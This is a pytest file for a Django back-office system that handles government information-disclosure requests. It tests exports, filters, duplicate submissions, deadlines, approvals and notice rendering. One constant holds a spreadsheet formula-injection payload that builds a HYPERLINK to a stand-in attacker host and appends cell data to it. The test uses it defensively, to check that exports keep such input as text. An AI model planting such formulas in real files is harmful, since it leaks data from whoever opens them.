"""What a case officer and an approver meet on the back-office pages: exports that are safe to open, filters that
say what is wrong, one case per registration form, deadlines that stop when a case ends, approvals of what was
read, notices that survive what applicants type."""

from __future__ import annotations

import datetime as dt
import io
import zipfile

import pytest
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from gongkai.core.errors import CaseDataError
from gongkai.web.applications import services
from gongkai.web.applications.models import Application, Notice
from gongkai.web.notices.services import render_notice_docx, render_notice_pdf
from tests.web.conftest import APPLICANT, RECEIVED, FileApplication, Staff, TodayIs, Tree, client_for

FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"点击查看")'


def test_the_queue_export_keeps_what_applicants_typed_as_text_never_a_formula(
    file_application: FileApplication, staff: Staff
) -> None:
    application, _ = file_application()
    Application.objects.filter(pk=application.pk).update(description=FORMULA)
    response = client_for(staff.officer).get(reverse("office:list"), {"queue": "all", "format": "xlsx"})
    sheet_xml = zipfile.ZipFile(io.BytesIO(response.content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    header = [c.value for c in sheet[1]]
    row = dict(zip(header, [c.value for c in sheet[2]], strict=True))
    assert row["申请内容"] == FORMULA
    assert row["承办人"] == staff.officer.get_full_name() or staff.officer.get_username()
    assert row["答复期限为暂定"] is None  # a 2026 date: the calendar is known


def test_a_wrong_filter_is_shown_and_the_others_still_apply(
    file_application: FileApplication, staff: Staff
) -> None:
    file_application()
    other, _ = file_application()
    Application.objects.filter(pk=other.pk).update(description="另一件事")
    client = client_for(staff.officer)
    page = client.get(
        reverse("office:list"), {"queue": "all", "q": "建设工程", "year": "2026年"}
    ).content.decode()
    assert "field-error" in page
    assert "共 1 件" in page  # the text filter still applies, not the whole queue
    export = client.get(
        reverse("office:list"), {"queue": "all", "year": "1999x", "format": "xlsx"}, follow=True
    )
    assert export["Content-Type"].startswith("text/html")
    assert "未导出" in export.content.decode()


def test_the_registration_form_sent_twice_registers_one_case(tree: Tree, staff: Staff) -> None:
    client = client_for(staff.officer)
    page = client.get(reverse("office:create")).content.decode()
    token = page.split('name="submission_token" value="')[1].split('"')[0]
    data = {
        "submission_token": token,
        "channel": "in_person",
        "arrived_on": RECEIVED.isoformat(),
        "applicant_kind": "natural",
        "name": APPLICANT.name,
        "id_type": APPLICANT.id_type,
        "id_number": APPLICANT.id_number,
        "phone": APPLICANT.phone,
        "address": APPLICANT.address,
        "description": "2025年度建设工程规划许可证核发情况",
        "requested_form": "paper",
        "delivery": "post",
    }
    first = client.post(reverse("office:create"), data)
    assert first.status_code == 302
    second = client.post(reverse("office:create"), data, follow=True)
    assert Application.objects.count() == 1
    assert "已经提交过" in second.content.decode()
    assert second.redirect_chain[-1][0] == first["Location"]


def test_an_arrival_in_the_future_is_refused_at_the_counter(
    tree: Tree, staff: Staff, today_is: TodayIs
) -> None:
    today_is(dt.date(2026, 11, 27))
    with pytest.raises(CaseDataError, match="签收日期2026-12-10晚于今天"):
        services.application_create(
            agency=tree.bureau,
            applicant=APPLICANT,
            applicant_kind="natural",
            description="某项信息的公开",
            requested_form="paper",
            delivery="post",
            channel="registered_post",
            arrived_on=dt.date(2026, 11, 26),
            signed_on=dt.date(2026, 12, 10),
            by=staff.officer,
            register=True,
        )
    assert not Application.objects.exists()


def test_a_withdrawn_case_says_its_deadlines_no_longer_run(
    file_application: FileApplication, staff: Staff
) -> None:
    application, _ = file_application()
    services.application_withdraw(application=application, by=staff.officer, on=RECEIVED, note="撤回")
    page = client_for(staff.officer).get(reverse("office:case", args=[application.pk])).content.decode()
    assert "以下期限不再计算" in page
    assert 'class="deadline late"' not in page


def test_an_approval_form_carries_the_proposal_it_shows(
    file_application: FileApplication, staff: Staff
) -> None:
    application, _ = file_application()
    officer, approver = client_for(staff.officer), client_for(staff.approver)
    services.application_propose_decision(
        application=application, by=staff.officer, on=RECEIVED, answer="disclosed", text="见附件。"
    )
    approve = reverse("office:act", args=[application.pk, "approve_decision"])
    shown = approver.get(approve).content.decode()
    proposal = shown.split('name="proposal" value="')[1].split('"')[0]
    services.application_return_decision(application=application, by=staff.approver, on=RECEIVED, note="再核")
    officer.post(
        reverse("office:act", args=[application.pk, "propose_decision"]),
        {
            "on": RECEIVED.isoformat(),
            "answer": "withheld_secret",
            "text": "属于国家秘密。",
            "public_interest": "",
        },
    )
    stale = approver.post(approve, {"on": RECEIVED.isoformat(), "proposal": proposal})
    assert "又修改了拟答复内容" in stale.content.decode()
    assert Application.objects.get(pk=application.pk).outcome_row == ""


def test_the_action_page_cites_the_article_in_the_reader_s_language(
    file_application: FileApplication, staff: Staff
) -> None:
    application, _ = file_application()
    client = client_for(staff.officer)
    url = reverse("office:act", args=[application.pk, "request_extension"])
    assert "依据：《条例》第三十三条" in client.get(url).content.decode()
    client.cookies.load({"django_language": "en"})
    with translation.override("en"):
        english = client.get(url, HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert "Art. 33" in english
    assert "第三十三条" not in english


def test_the_drill_down_names_each_case_s_row_as_the_report_does(
    file_application: FileApplication, staff: Staff, tree: Tree
) -> None:
    application, _ = file_application()
    services.application_propose_decision(
        application=application,
        by=staff.officer,
        on=RECEIVED,
        answer="withheld_secret",
        text="属于国家秘密。",
    )
    services.application_approve_decision(application=application, by=staff.approver, on=RECEIVED)
    page = client_for(staff.officer).get(
        reverse("reports:cell", args=[2026, "withheld_secret", "natural"]), {"agency": tree.bureau.pk}
    )
    text = page.content.decode()
    assert "（三）不予公开 / 1.属于国家秘密" in text
    assert ">withheld_secret<" not in text
    letter = Notice.objects.get(application=application, kind=Notice.Kind.DECISION)
    assert "依据：《中华人民共和国政府信息公开条例》第十四条" in letter.body


def test_an_extension_letter_says_when_its_date_rests_on_an_unpublished_year(
    file_application: FileApplication, staff: Staff, today_is: TodayIs
) -> None:
    today_is(dt.date(2026, 12, 15))
    application, _ = file_application(arrived_on=dt.date(2026, 12, 15))
    a = services.application_request_extension(
        application=application, by=staff.officer, on=dt.date(2026, 12, 16), days=10, reason="档案多"
    )
    services.application_approve_extension(application=a, by=staff.approver, on=dt.date(2026, 12, 16))
    letter = Notice.objects.get(application=a, kind=Notice.Kind.EXTENSION)
    assert "2027年的工作日暂行推算" in letter.body


def test_a_control_character_an_applicant_typed_never_stops_a_notice(
    file_application: FileApplication, staff: Staff
) -> None:
    application, _ = file_application()
    application.applicant.name = "张\x07\x1b三\x0b"
    application.applicant.save()
    services.application_request_correction(
        application=application,
        by=staff.officer,
        on=RECEIVED,
        correction_due=dt.date(2026, 3, 10),
        note="写明文号\x0b",  # PostgreSQL stores no NUL at all; the forms refuse every control character
    )
    notice = Notice.objects.get(application=application)
    assert "张三" in notice.body
    response = client_for(staff.officer).get(
        reverse("office:notice", args=[application.pk, notice.pk, "docx"])
    )
    assert response.status_code == 200
    # A notice stored before the forms refused such characters renders too.
    for render in (render_notice_docx, render_notice_pdf):
        assert render(
            title="补正申请告知书", number="1", body="张\x07三\n第二段\x0c", signature=("机关\x08",)
        )
